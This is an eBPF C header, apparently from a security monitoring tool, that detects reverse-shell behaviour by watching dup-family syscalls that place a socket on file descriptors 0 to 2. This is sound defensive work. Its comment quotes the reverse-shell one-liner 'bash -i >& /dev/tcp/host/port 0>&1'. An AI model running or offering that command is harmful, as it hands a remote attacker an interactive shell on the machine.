/* SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause) */
/*
 * fd_redirect: a socket duplicated onto stdin, stdout or stderr, the shape
 * of a reverse shell (bash -i >& /dev/tcp/host/port 0>&1). dup2, dup3,
 * fcntl(F_DUPFD*) and dup are watched; the entry filters on the arguments,
 * the exit checks that the new fd is 0, 1 or 2 and now holds a socket.
 * Helpers and maps; the programs are in network.bpf.c.
 */
#pragma once

#include "common.bpf.h"
#include "blob.bpf.h"
#include "network.h"
#include "sock.bpf.h"
#include "track.bpf.h"

#define F_DUPFD 0
#define F_DUPFD_CLOEXEC 1030

/* args: old fd, new fd (for fcntl the lowest acceptable new fd) */
static __always_inline void begin_dup(enum net_syscall sc, long oldfd, long newfd)
{
	/* dup2(fd, fd) is a no-op; fcntl(fd, F_DUPFD, fd) is not */
	if ((unsigned long)newfd > 2 || (oldfd == newfd && sc != NET_SYS_FCNTL) ||
	    !traced(current_task()))
		return;
	struct pending p = { .syscall = sc, .args = { oldfd, newfd } };
	begin(&p, KIND_FD_REDIRECT);
}

static __always_inline void report_dup(enum net_syscall sc, long ret)
{
	struct pending *p = finish(sc);
	if (!p)
		return;
	if (ret < 0 || ret > 2)
		goto out;

	struct sock *sk = fd_sock(ret);
	if (!sk || !family_wanted(sk->__sk_common.skc_family))
		goto out;
	struct net_info *n = net_start(KIND_FD_REDIRECT, sc);
	struct blob *b = blob_get();
	__u16 tail = 0;
	if (!n || !b)
		goto out;
	n->ret = ret;
	n->fd = p->args[0];
	n->new_fd = ret;
	read_sock(n, sk);
	if (n->family == AF_UNIX) {
		tail = tail_peer_path(b, sk);
		n->flags |= NET_TAIL_UNIX_PEER;
	}
	net_emit(n, b, tail);
out:
	forget(p);
}
